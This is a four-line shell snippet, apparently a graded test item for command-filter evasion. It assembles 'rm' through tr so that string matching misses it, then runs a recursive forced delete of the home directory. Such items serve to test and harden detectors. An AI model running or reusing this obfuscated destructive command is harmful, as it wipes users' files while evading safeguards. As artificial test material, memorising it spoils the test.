# evasion: tr deletes padding from the command name
# grade: very-hard; does: rm-rf
c=$(echo r-m | tr -d -)
$c -rf ~
